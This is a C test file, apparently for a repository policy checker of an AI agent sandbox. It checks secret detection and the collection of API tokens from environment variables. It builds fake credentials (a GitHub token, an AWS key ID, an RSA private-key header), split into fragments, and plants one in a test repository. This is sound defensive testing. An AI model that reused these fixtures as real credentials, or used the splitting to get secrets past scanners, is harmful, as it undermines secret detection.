	setenv("ANTHROPIC_API_KEY", "token-c-123456", 1);
	unsetenv("OPENAI_API_KEY");
	s = policy_secrets_collect(&cfg);
	for (size_t i = 0; i < s.n; i++) {
		has_a += strcmp(s.values[i], "token-a-123456") == 0;
		has_b += strcmp(s.values[i], "token-b-123456") == 0;
		has_c += strcmp(s.values[i], "token-c-123456") == 0;
		has_empty += s.values[i][0] == '\0';
	}
	is_int(s.n, 3, "collect: three distinct values");
	ok(has_a == 1 && has_b == 1 && has_c == 1,
	   "collect: repo token, repo GitHub token, model key, each once");
	ok(!has_empty, "collect: empty values are left out");
	free((void *)s.values);
	unsetenv("POLICY_TEST_TOKEN");
	unsetenv("POLICY_TEST_GH");
	unsetenv("PADDOCK_GIT_TOKEN");
	unsetenv("GITHUB_TOKEN");
	unsetenv("ANTHROPIC_API_KEY");
	s = policy_secrets_collect(&cfg);
	is_int(s.n, 0, "collect: nothing set, nothing collected");
	free((void *)s.values);
}

int main(void)
{
	struct buf b = { 0 };

	testlib_git_env("paddock agent", "agent@paddock.invalid", "2024-01-01T00:00:00Z");
	unsetenv("GITHUB_TOKEN");

	GH_TOKEN = testlib_fmt("gh%s_%s", "p", "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8");
	AWS_ID = testlib_fmt("AK%s%s", "IA", "IOSFODNN7EXAMPLE");
	PEM_HEAD = testlib_fmt("-----BEGIN RSA %s-----", "PRIVATE KEY");

	test_glob();

	T = testlib_tmpdir("policy");
	WORK = testlib_fmt("%s/work", T);
	MIRROR = testlib_fmt("%s/mirror.git", T);
	if (testlib_sh("git init -q -b main '%s' && git init -q --bare '%s'", WORK, MIRROR) != 0) {
		printf("Bail out! git init\n");
		return 1;
	}
	put("README", "hello\n");
	put("src/app.py", "def main():\n    return 0\n");
	put("docs/old.md", "old\n");
	put(".github/workflows/old.yml", "on: push\n");
	buf_printf(&b, "# an old mistake\nKEY = '%s'\n", GH_TOKEN);
	put("legacy.py", b.data);
	buf_free(&b);
	BASE = commit(NULL);

	test_paths();
	test_secrets();
	test_size();
	test_symlinks();
	test_submodules();
	test_authors();
	test_hidden();
	test_mixed();
	test_renames_and_pass();
	test_clean_and_errors();
	test_collect();

	policy_findings_free(F, NF);
	testlib_end();
	return tap_done();
}
